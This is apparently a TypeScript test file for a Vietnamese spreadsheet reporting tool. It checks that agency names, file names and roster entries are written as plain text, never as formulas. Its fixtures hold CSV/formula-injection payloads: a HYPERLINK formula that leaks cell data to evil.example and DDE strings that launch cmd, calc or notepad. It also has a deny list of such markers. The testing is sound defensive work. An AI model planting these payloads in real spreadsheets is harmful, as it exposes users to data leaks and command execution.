/**
 * Nothing from an input is ever written as a formula. Agency names, codes, file names, sheet
 * names and roster entries that start with =, +, - or @ (the classic CSV/formula-injection
 * openers) go through every writer — consolidated report, period review, template — and the
 * written XML is scanned: every formula must be one of our own shapes (SUM, SUMIF, IF,
 * ISNUMBER, AND over cell references, numbers and our own string literals), and the hostile
 * texts must come back as plain text values.
 */
import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import type ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FORM01_ROWS } from "../src/core/form01";
import { PERIOD_SHEETS } from "../src/io/period-report";
import { readWorkbook } from "../src/io/read";
import { REPORT_SHEETS } from "../src/io/report";
import { writeTemplate } from "../src/io/template";
import { runCli } from "./helpers/cli";
import { editForm, filledForm, filledValues } from "./helpers/forms";

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Sở Ngoại vụ")',
  dde: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C notepad'!A1",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
};
/** Fragments that must never appear inside a written formula. */
const MARKERS = ["HYPERLINK", "cmd", "evil", "calc", "notepad", "@"];

/** String literals our own formulas and validations use. */
const OWN_LITERALS = new Set(["", "Đã tổng hợp", "Consolidated", [...new Set(FORM01_ROWS.map((r) => r.unit))].join(",")]);
const OWN_FUNCTIONS = new Set(["SUM", "SUMIF", "IF", "ISNUMBER", "AND"]);
/** The sheets DTBD writes, which its charts' series refer to. */
const OWN_SHEETS = [...Object.values(REPORT_SHEETS), ...Object.values(PERIOD_SHEETS)];

function decodeXml(s: string): string {
  return s
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&amp;/g, "&");
}

/** Why a formula is not one of ours, or null when every token is allowed. */
function foreignToken(formula: string): string | null {
  const token = /\s+|(\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?)|([A-Z]+)\(|("(?:[^"]|"")*")|(\d+(?:\.\d+)?)|(<>|>=|<=|[-+*/<>=(),])/y;
  let i = 0;
  while (i < formula.length) {
    token.lastIndex = i;
    const m = token.exec(formula);
    if (!m) return `unexpected text at ${i}: ${formula.slice(i, i + 20)}`;
    if (m[2] && !OWN_FUNCTIONS.has(m[2])) return `function ${m[2]}`;
    if (m[3] && !OWN_LITERALS.has(m[3].slice(1, -1).replace(/""/g, '"'))) return `literal ${m[3]}`;
    i = token.lastIndex;
  }
  return null;
}

interface WrittenFormula {
  part: string;
  kind: string;
  text: string;
}

function formulasIn(bytes: Uint8Array): WrittenFormula[] {
  const out: WrittenFormula[] = [];
  for (const [part, data] of Object.entries(unzipSync(bytes))) {
    if (!/\.xml$/.test(part)) continue;
    const xml = strFromU8(data);
    for (const m of xml.matchAll(/<((?:\w+:)?(?:f|formula|formula1|formula2))(?:\s[^>]*)?>([\s\S]*?)<\/\1>/g)) out.push({ part, kind: m[1], text: decodeXml(m[2]) });
    // Defined names (print areas, filters) are formulas too.
    for (const m of xml.matchAll(/<definedName(?:\s[^>]*)?>([\s\S]*?)<\/definedName>/g)) out.push({ part, kind: "definedName", text: decodeXml(m[1]) });
  }
  return out;
}

function expectOnlyOwnFormulas(bytes: Uint8Array, label: string): number {
  const formulas = formulasIn(bytes);
  for (const f of formulas) {
    if (f.kind === "definedName") {
      // Print areas, print titles and filter ranges: sheet-qualified references only.
      expect(f.text, `${label} ${f.part}`).toMatch(/^('[^']*'|[^!,]+)!\$?[A-Z]*\$?\d*(:\$?[A-Z]*\$?\d*)?(,('[^']*'|[^!,]+)!\$?[A-Z]*\$?\d*(:\$?[A-Z]*\$?\d*)?)*$/);
      expect(f.text.replace(/'[^']*'!/g, "")).not.toMatch(/[=@+]/);
      continue;
    }
    if (f.kind === "c:f") {
      // A chart series' reference: cells of one of our own sheets, a range or a union of them.
      const area = `'(?:${OWN_SHEETS.join("|")})'!\\$[A-Z]{1,3}\\$\\d+(?::\\$[A-Z]{1,3}\\$\\d+)?`;
      expect(f.text, `${label} ${f.part} <${f.kind}>${f.text}`).toMatch(new RegExp(`^(?:${area}|\\(${area}(?:,${area})+\\))$`));
      continue;
    }
    expect(foreignToken(f.text), `${label} ${f.part} <${f.kind}>${f.text}`).toBeNull();
    for (const marker of MARKERS) expect(f.text, `${label} ${f.part}`).not.toContain(marker);
  }
  return formulas.length;
}

/** Every cell of every sheet whose text contains `needle`: it must be a plain value, never a formula. */
async function textCells(bytes: Uint8Array, needle: string) {
  const read = await readWorkbook(bytes);
  const found: { sheet: string; value: unknown; formula?: string }[] = [];
  for (const sheet of read.grid!.sheets)
    for (const cells of sheet.rows)
      for (const cell of cells ?? []) if (cell && typeof cell.value === "string" && cell.value.includes(needle)) found.push({ sheet: sheet.name, value: cell.value, formula: cell.formula });
  return found;
}

let dir: string;
let inputs: string;
let outDir: string;

beforeAll(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), "dtbd-writers-"));
  inputs = path.join(dir, "in");
  outDir = path.join(dir, "out");
  await fs.mkdir(inputs);
  const agencies: [string, string, string][] = [
    ["=1+1.xlsx", HOSTILE.hyperlink, "000.00.21.H39"],
    ["+cmd.xlsx", HOSTILE.dde, "000.00.22.H39"],
    ["-2+3.xlsx", HOSTILE.minus, "000.00.23.H39"],
    ["@SUM(A1).xlsx", HOSTILE.at, HOSTILE.at],
  ];
  for (const [i, [file, name, code]] of agencies.entries()) {
    const bytes = await filledForm(filledValues(70 + i), { agencyName: name, agencyCode: code });
    // The first agency's sheet is named "=A1" and holds a number typed as text, so that a
    // finding (cell.text-number) names that sheet in Kiểm tra.
    const renamed = (ws: ExcelJS.Worksheet) => {
      ws.name = "=A1";
      ws.getCell("F13").value = String(ws.getCell("F13").value ?? 0);
    };
    await fs.writeFile(path.join(inputs, file), i === 0 ? await editForm(bytes, renamed) : bytes);
  }
  await fs.writeFile(path.join(inputs, "=broken.xlsx"), "=cmd|' /C calc'!A0,not a workbook");
  await fs.writeFile(path.join(dir, "roster.csv"), ["Mã định danh;Tên đơn vị", `000.00.21.H39;x`, `000.00.99.H39;${HOSTILE.hyperlink.replace(/"/g, "")}`, `=1+2;${HOSTILE.dde}`].join("\n"));
  await fs.writeFile(path.join(inputs, "=plan.xlsx"), await writeTemplate({ period: { from: 2021, to: 2025 }, agencyName: HOSTILE.hyperlink, agencyCode: "000.00.21.H39", values: filledValues(80) }));
});
afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

describe("texts from inputs are written as text, never as formulas", () => {
  it("consolidated report: only our own formulas; hostile names, codes, file names and roster entries are plain text", async () => {
    const out = path.join(outDir, "tong-hop.xlsx");
    const run = await runCli(["consolidate", inputs, "--roster", path.join(dir, "roster.csv"), "--out", out, "--include-invalid", "--json"]);
    expect(run.stderr).toBe("");
    const bytes = new Uint8Array(await fs.readFile(out));
    expect(expectOnlyOwnFormulas(bytes, "report")).toBeGreaterThan(100);
    for (const text of [HOSTILE.hyperlink, HOSTILE.dde, HOSTILE.minus, "=1+1.xlsx", "@SUM(A1).xlsx", "=broken.xlsx"]) {
      const cells = await textCells(bytes, text);
      expect(cells.length, text).toBeGreaterThan(0);
      for (const c of cells) expect(c.formula, `${text} in ${c.sheet}`).toBeUndefined();
    }
    // The sheet named "=A1" is named in Kiểm tra as text, on the row of the finding that points into it.
    const sheetNamed = await textCells(bytes, "=A1");
    expect(sheetNamed).toContainEqual({ sheet: "Kiểm tra", value: "=A1", formula: undefined });
    for (const c of sheetNamed) expect(c.formula).toBeUndefined();
  });

  it("the --lang en report too", async () => {
    const out = path.join(outDir, "tong-hop-en.xlsx");
    await runCli(["consolidate", inputs, "--out", out, "--lang", "en", "--json"]);
    expectOnlyOwnFormulas(new Uint8Array(await fs.readFile(out)), "report en");
  });

  it("period review: only our own formulas; hostile file names are plain text", async () => {
    const out = path.join(outDir, "so-ket.xlsx");
    await fs.mkdir(path.join(dir, "years"), { recursive: true });
    for (const year of [2021, 2022]) await fs.writeFile(path.join(dir, "years", `=${year}+cmd.xlsx`), await writeTemplate({ year, agencyName: HOSTILE.dde, agencyCode: "000.00.21.H39", values: filledValues(year) }));
    const run = await runCli(["period", path.join(dir, "years"), path.join(inputs, "=broken.xlsx"), "--target", path.join(inputs, "=plan.xlsx"), "--out", out, "--json"]);
    expect(run.stderr).toBe("");
    const bytes = new Uint8Array(await fs.readFile(out));
    expect(expectOnlyOwnFormulas(bytes, "period")).toBeGreaterThan(50);
    for (const text of ["=2021+cmd.xlsx", "=broken.xlsx", "=plan.xlsx"]) {
      const cells = await textCells(bytes, text);
      expect(cells.length, text).toBeGreaterThan(0);
      for (const c of cells) expect(c.formula, text).toBeUndefined();
    }
  });

  it("template: a hostile --agency and --code are written as text", async () => {
    const out = path.join(outDir, "mau.xlsx");
    expect((await runCli(["template", "--year", "2024", "--agency", HOSTILE.dde, "--code", HOSTILE.at, "--out", out])).code).toBe(0);
    const bytes = new Uint8Array(await fs.readFile(out));
    expect(expectOnlyOwnFormulas(bytes, "template")).toBeGreaterThan(50);
    for (const text of [HOSTILE.at, HOSTILE.dde.toUpperCase(), `Đơn vị báo cáo: ${HOSTILE.dde}`]) {
      const cells = await textCells(bytes, text);
      expect(cells.length, text).toBeGreaterThan(0);
      for (const c of cells) expect(c.formula, text).toBeUndefined();
    }
  });

  it("the whitelist itself rejects formulas built from input text", () => {
    expect(foreignToken('IF(E11>0,J11/E11,"")')).toBeNull();
    expect(foreignToken('SUMIF($M$6:$M$9,"Đã tổng hợp",E6:E9)')).toBeNull();
    expect(foreignToken('HYPERLINK("http://evil.example","x")')).toMatch(/HYPERLINK/);
    expect(foreignToken("cmd|' /C calc'!A0")).not.toBeNull();
    expect(foreignToken('IF(A1>0,"=cmd","")')).toMatch(/literal/);
  });
});

describe("texts from inputs cannot break the written XML", () => {
  it("U+FFFF, U+FFFE and lone surrogates in an agency name: the report stays well-formed, emoji survive, long names are cut at Excel's 32,767", async () => {
    const folder = path.join(dir, "chars");
    await fs.mkdir(folder);
    const nasty = "Sở\uFFFFTài\uFFFEchính\uD800 😀";
    // exceljs writes these characters raw: the input itself is ill-formed XML, as a hostile file would be.
    await fs.writeFile(path.join(folder, "a.xlsx"), await filledForm(filledValues(90), { agencyName: nasty, agencyCode: "000.00.41.H39" }));
    await fs.writeFile(path.join(folder, "b.xlsx"), await filledForm(filledValues(91), { agencyName: "Sở " + "Dài".repeat(12_000), agencyCode: "000.00.42.H39" }));
    const out = path.join(outDir, "chars.xlsx");
    const run = await runCli(["consolidate", folder, "--out", out, "--json"]);
    expect(run.stderr).toBe("");
    const bytes = new Uint8Array(await fs.readFile(out));
    for (const [part, data] of Object.entries(unzipSync(bytes))) {
      const text = strFromU8(data);
      expect(/[\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(text), part).toBe(false);
    }
    const read = await readWorkbook(bytes);
    const values = read.grid!.sheets.flatMap((s) => s.rows.flatMap((r) => (r ?? []).map((c) => c?.value))).filter((v): v is string => typeof v === "string");
    expect(values).toContain("Sở\uFFFDTài\uFFFDchính\uFFFD 😀");
    expect(Math.max(...values.map((v) => v.length))).toBeLessThanOrEqual(32_767);
    expect(values.some((v) => v.startsWith("Sở DàiDài") && v.endsWith("…"))).toBe(true);
  });
});
